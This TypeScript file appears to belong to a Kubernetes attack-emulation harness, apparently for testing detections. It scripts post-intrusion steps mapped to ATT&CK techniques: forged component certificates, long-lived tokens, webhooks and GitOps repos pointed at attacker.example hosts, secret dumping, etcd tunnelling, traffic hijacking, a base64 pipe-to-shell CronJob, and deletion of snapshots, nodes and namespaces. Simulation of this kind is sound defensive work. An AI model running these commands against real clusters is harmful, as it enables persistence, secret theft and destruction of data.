import { AGENTS } from "./actors.ts";
import { DANA, ERIN } from "./people.ts";
import { named, pod, podSpec } from "./setting.ts";
import { byKubectl, createdBy } from "./step.ts";
import type { Step } from "./step.ts";

const create = createdBy(ERIN);
const createAsDana = createdBy(DANA);
const MERGE_PATCH = ["--type", "merge", "-p"] as const;
const SIGNING = "/apis/certificates.k8s.io/v1/certificatesigningrequests";

/** What published intrusions did after they were in: how they stayed, what they read, and what they broke. */
export const REPORTED_AIMS: readonly Step[] = [
  // Staying.
  {
    label: "certificate-as-a-component",
    technique: "T1098",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      const { request } = await actors.certificateRequest("kcm", "/CN=system:kube-controller-manager");
      const erin = actors.certificate(ERIN);
      const name = "renewal-2026";
      const body = {
        ...named("CertificateSigningRequest", "certificates.k8s.io/v1", name),
        spec: {
          request: Buffer.from(request).toString("base64"),
          signerName: "kubernetes.io/kube-apiserver-client",
          usages: ["client auth"],
        },
      };
      await actors.send(erin, "POST", SIGNING, { body });
      return actors.kubectl(ERIN, ["certificate", "approve", name]);
    },
  },
  byKubectl(
    ["token-of-aggregation-controller", "T1528", ERIN],
    "create:serviceaccounts/token",
    "-n kube-system create token clusterrole-aggregation-controller --duration=8760h",
  ),
  byKubectl(["new-resource-converted-outside", "T1546", ERIN], "patch:customresourcedefinitions", [
    "patch",
    "crd",
    "backups.velero.io",
    ...MERGE_PATCH,
    JSON.stringify({
      spec: {
        conversion: {
          strategy: "Webhook",
          webhook: {
            clientConfig: { url: "https://convert.attacker.example/c" },
            conversionReviewVersions: ["v1"],
          },
        },
      },
    }),
  ]),
  create("api-served-by-a-service", "T1546", "apiservices", {
    ...named("APIService", "apiregistration.k8s.io/v1", "v1beta1.status.example"),
    spec: {
      group: "status.example",
      version: "v1beta1",
      insecureSkipTLSVerify: true,
      groupPriorityMinimum: 100,
      versionPriority: 100,
      service: { namespace: "shop", name: "inside", port: 443 },
    },
  }),
  byKubectl(["front-proxy-names-widened", "T1556", ERIN], "patch:configmaps", [
    "-n",
    "kube-system",
    "patch",
    "configmap",
    "extension-apiserver-authentication",
    ...MERGE_PATCH,
    '{"data":{"requestheader-allowed-names":"[]"}}',
  ]),
  byKubectl(["policy-only-audits", "T1562", ERIN], "patch:validatingadmissionpolicybindings", [
    "patch",
    "validatingadmissionpolicybinding",
    "no-privileged",
    ...MERGE_PATCH,
    '{"spec":{"validationActions":["Audit"]}}',
  ]),
  createAsDana("network-opened-beside", "T1562.007", "networkpolicies", {
    ...named("NetworkPolicy", "networking.k8s.io/v1", "allow", "shop"),
    spec: { podSelector: {}, ingress: [{}], egress: [{}], policyTypes: ["Ingress", "Egress"] },
  }),
  create("cron-job-decodes", "T1053.007", "cronjobs", {
    ...named("CronJob", "batch/v1", "sync", "sandbox"),
    spec: {
      schedule: "*/15 * * * *",
      jobTemplate: {
        spec: {
          template: {
            spec: podSpec(
              "alpine",
              { args: ["sh", "-c", "# echo Y3VybA== | base64 -d | sh"] },
              { restartPolicy: "Never" },
            ),
          },
        },
      },
    },
  }),
  byKubectl(["delivery-from-elsewhere", "T1195", ERIN], "patch:applications", [
    "-n",
    "shop",
    "patch",
    "application",
    "shop",
    ...MERGE_PATCH,
    '{"spec":{"source":{"repoURL":"https://git.attacker.example/shop.git"}}}',
  ]),
  createAsDana("account-for-a-cloud", "T1098", "serviceaccounts", {
    ...named("ServiceAccount", "v1", "uploader", "shop"),
    metadata: {
      name: "uploader",
      namespace: "shop",
      annotations: { "iam.gke.io/gcp-service-account": "owner@acme-prod.iam.gserviceaccount.com" },
    },
  }),
  createAsDana(
    "pod-with-cloud-token",
    "T1528",
    "pods",
    pod(
      "shop",
      "sts",
      podSpec(
        "registry.example/shop/web:1.4.2",
        {},
        {
          serviceAccountName: "deployer",
          volumes: [
            {
              name: "t",
              projected: { sources: [{ serviceAccountToken: { audience: "sts.amazonaws.com", path: "token" } }] },
            },
          ],
        },
      ),
    ),
  ),
  // Reading.
  {
    label: "secrets-watched",
    technique: "T1552.007",
    principal: ERIN,
    deeds: [],
    run: ({ actors }) =>
      actors.send(actors.certificate(ERIN), "GET", "/api/v1/secrets?watch=1", {
        headers: { "User-Agent": AGENTS.python },
        closeAfterMs: 700,
      }),
  },
  byKubectl(["releases-read", "T1552.007", DANA], "list:secrets", "-n shop get secrets -l owner=helm -o yaml"),
  byKubectl(
    ["logs-of-a-database", "T1552", DANA],
    ["get:pods", "get:pods/log"],
    "-n payments logs db-0 --all-containers",
  ),
  {
    label: "rights-mapped",
    technique: "T1613",
    principal: DANA,
    deeds: [],
    run: async ({ actors }) => {
      const dana = actors.certificate(DANA);
      for (const resource of ["secrets", "pods", "nodes", "clusterroles", "serviceaccounts"]) {
        for (const verb of ["get", "list", "create", "delete", "update", "patch"]) {
          await actors.send(dana, "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", {
            headers: { "User-Agent": "kubectl-access_matrix/v0.0.0 (linux/amd64)" },
            body: {
              apiVersion: "authorization.k8s.io/v1",
              kind: "SelfSubjectAccessReview",
              spec: { resourceAttributes: { verb, resource } },
            },
          });
        }
      }
      return undefined;
    },
  },
  byKubectl(
    ["tunnel-to-etcd", "T1090", ERIN],
    ["get:pods", "get:pods/portforward"],
    "-n kube-system port-forward etcd-cp-1 2379:2379 --pod-running-timeout=1s",
  ),
  // Sending traffic elsewhere.
  {
    label: "balancer-address-by-hand",
    technique: "T1557",
    principal: ERIN,
    deeds: [],
    run: ({ actors }) =>
      actors.send(actors.certificate(ERIN), "PATCH", "/api/v1/namespaces/shop/services/inside/status", {
        body: { status: { loadBalancer: { ingress: [{ ip: "192.0.2.10" }] } } },
      }),
  },
  byKubectl(["address-of-others", "T1557", DANA], "patch:services", [
    "-n",
    "shop",
    "patch",
    "service",
    "inside",
    ...MERGE_PATCH,
    '{"spec":{"externalIPs":["192.0.2.10"]}}',
  ]),
  byKubectl(["service-opened", "T1133", DANA], "patch:services", [
    "-n",
    "shop",
    "patch",
    "service",
    "inside",
    ...MERGE_PATCH,
    '{"spec":{"type":"NodePort"}}',
  ]),
  // Breaking, and covering it up.
  byKubectl(["secret-overwritten", "T1486", ERIN], "patch:secrets", [
    "-n",
    "payments",
    "patch",
    "secret",
    "ledger-db",
    ...MERGE_PATCH,
    '{"stringData":{"key":"SYNTHETIC-pay-us"}}',
  ]),
  byKubectl(
    ["scaled-out", "T1496", ERIN],
    ["patch:deployments/scale", "update:deployments/scale"],
    "-n sandbox scale deployment load --replicas=120",
  ),
  byKubectl(
    ["snapshot-deleted", "T1490", ERIN],
    "delete:volumesnapshots",
    "-n payments delete volumesnapshot ledger-nightly",
  ),
  byKubectl(["quota-gone", "T1562", ERIN], "delete:limitranges", "-n team-a delete limitrange defaults"),
  byKubectl(["node-gone", "T1489", ERIN], "delete:nodes", "delete node node-3 --wait=false"),
  byKubectl(["request-removed", "T1070", ERIN], "delete:certificatesigningrequests", "delete csr renewal-2026"),
  byKubectl(["binding-removed", "T1070", ERIN], "delete:clusterrolebindings", "delete clusterrolebinding status-page"),
  byKubectl(["namespace-gone", "T1485", ERIN], "delete:namespaces", "delete namespace payments --wait=false"),
];
